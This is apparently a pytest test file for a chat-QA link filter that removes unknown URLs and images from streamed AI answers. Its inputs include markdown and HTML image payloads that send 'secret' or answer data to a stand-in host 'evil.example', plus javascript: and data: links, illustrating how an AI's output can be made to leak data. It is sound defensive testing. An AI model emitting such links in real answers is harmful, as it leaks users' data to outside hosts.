"""An answer links to nothing that nobody wrote, and shows no picture, however the model's text was cut into pieces."""

import random
import re

import pytest

from steelyard_chatqna.links import REMOVED, LinkFilter, addresses, without_pictures

from .fakes import FakeLlm, words
from .test_chatqna_answer import answered

KNOWN = "See https://docs.example/ax-104 and https://docs.example/a_(b), or www.example.com."


def filtered(text: str, known: str = KNOWN) -> str:
    one = LinkFilter(lambda: addresses([known]))
    return one.feed(text) + one.finish()


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("![x](https://evil.example/?q=secret)", f" [x]({REMOVED})"),
        ("![x](//evil.example/secret)", f" [x]({REMOVED})"),
        ("![x][r]\n\n[r]: https://evil.example/secret", f" [x][r]\n\n[r]: {REMOVED}"),
        ("[click](https://evil.example/secret)", f"[click]({REMOVED})"),
        ("<https://evil.example/secret>", f"<{REMOVED}>"),
        ('<img src="https://evil.example/secret">', f' img src="{REMOVED}">'),
        ("<IMG SRC=//evil.example/secret>", f" IMG SRC={REMOVED}>"),
        ("go to HTTPS://EVIL.EXAMPLE/x now", f"go to {REMOVED} now"),
        ("[a](javascript:alert(1))", f"[a]({REMOVED})"),
        ("[a](data:text/html,x)", f"[a]({REMOVED})"),
        ("www.evil.example/x.", f"{REMOVED}."),
        # A known address with something behind it is another address.
        ("https://docs.example/ax-104?q=secret", REMOVED),
        ("https://docs.example/ax-104/secret", REMOVED),
        ("https://docs.example/ax", REMOVED),
        ("(https://docs.example/ax-104),https://evil.example", f"(https://docs.example/ax-104),{REMOVED}"),
        # What the evidence wrote stays, as a link and never as a picture.
        ("https://docs.example/ax-104", "https://docs.example/ax-104"),
        ("[manual](https://docs.example/a_(b)).", "[manual](https://docs.example/a_(b))."),
        ("![manual](https://docs.example/ax-104)", " [manual](https://docs.example/ax-104)"),
        ("(see www.example.com!)", "(see www.example.com!)"),
    ],
)  # fmt: skip
def test_what_is_shown(said: str, shown: str) -> None:
    assert filtered(said) == shown


@pytest.mark.parametrize(
    "text",
    ["35 Nm at 10:30!", "ratio 3:1, see [1]", "views: 3; file: a.txt; data: none", "a // b", "x <= 3", "wow! [1]",
     "保守点検は毎年行う。", "news:5 rows:10", "and/or", "5 !", "if a<link_count"],
)  # fmt: skip
def test_plain_text_is_left_alone(text: str) -> None:
    assert filtered(text) == text


PIECES = ["h", "t", "tp", "s", ":", "/", "//", "!", "[", "]", "(", ")", "<", "img", "www.", "data:", "image/", " ", "x",
          "https://docs.example/ax-104", "https://evil.example/", "\n", "é", '"', "file:/", ".", "="]  # fmt: skip


def test_however_it_is_cut_the_same_comes_out_and_no_strange_address_does() -> None:
    """10,000 random texts, each cut at random; `evil` in what is shown would be a leak."""
    chance = random.Random(7)
    known = addresses([KNOWN])
    for _ in range(10_000):
        text = "".join(chance.choice(PIECES) for _ in range(chance.randint(1, 14)))
        cuts = sorted(chance.choices(range(len(text) + 1), k=4))
        one = LinkFilter(lambda: known)
        spans = zip([0, *cuts], [*cuts, len(text)], strict=True)
        shown = "".join([*(one.feed(text[start:end]) for start, end in spans), one.finish()])
        assert shown == filtered(text), (text, cuts)
        assert "evil.example" not in shown, text
        assert "![" not in shown
        assert not re.search(r"<img[\s/>]", shown)
        assert one.seen == text


def test_plain_words_are_not_held_back() -> None:
    one = LinkFilter(frozenset)
    assert [one.feed(word) for word in words("The bolts are tightened to 35 Nm.")] == words(
        "The bolts are tightened to 35 Nm."
    )


def test_pictures_go_without_moving_anything_else() -> None:
    text = "See ![plan](https://docs.example/plan.png) and <img src=x>."
    assert len(without_pictures(text)) == len(text)
    assert "![" not in without_pictures(text)
    assert "<img" not in without_pictures(text)


@pytest.mark.parametrize("policy", ["flag", "abstain"])
def test_an_answer_carries_no_address_of_the_models_own(policy: str) -> None:
    said = "The approved seal for AX-104-B is ZQ-77. ![x](https://evil.example/?q=AX-104-B) Ask again."
    draft, shown = answered(FakeLlm(list(said)), groundedness_policy=policy)
    assert "".join(shown) == draft.text
    assert "evil" not in draft.text
    assert draft.text.startswith("The approved seal for AX-104-B is ZQ-77.")
    assert (draft.removed_links, draft.original_text) == (1, said)
    for citation in draft.citations:
        assert 0 <= citation.answer_start < citation.answer_end <= len(draft.text)
